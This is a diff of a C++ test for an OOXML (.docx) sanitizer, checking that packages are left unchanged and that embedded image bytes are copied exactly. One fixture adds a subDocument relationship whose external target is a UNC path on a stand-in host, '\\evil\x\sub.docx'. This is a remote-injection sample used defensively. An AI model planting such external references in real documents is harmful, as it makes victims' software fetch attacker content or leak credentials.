@@ -213,15 +213,23 @@ TEST_CASE("ooxml: a plain package is kept and unchanged members are copied raw",
   plain[0].second =
       R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)";
   plain.push_back({"word/media/image1.png", std::string(5000, 'p')});
+  // The image is referenced (a member nothing refers to would be removed).
+  const std::string image_rel =
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>)";
+  plain.push_back(
+      {"word/_rels/document.xml.rels",
+       R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)" +
+           image_rel + "</Relationships>"});
   std::string in = pack(plain);
   OoxmlSanitizer s(Options{});
   REQUIRE(runSanitizer(s, in, "plain.docx").verdict == Verdict::Pass);
 
   // With an external template added, only the settings and rels change; the image's
   // compressed bytes are copied exactly.
-  plain.push_back(
-      {"word/_rels/document.xml.rels",
-       R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument" Target="\\evil\x\sub.docx" TargetMode="External"/></Relationships>)"});
+  plain.back().second =
+      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)" +
+      image_rel +
+      R"(<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument" Target="\\evil\x\sub.docx" TargetMode="External"/></Relationships>)";
   in = pack(plain);
   Outcome o = runSanitizer(s, in, "plain.docx");
   REQUIRE(o.replacement);
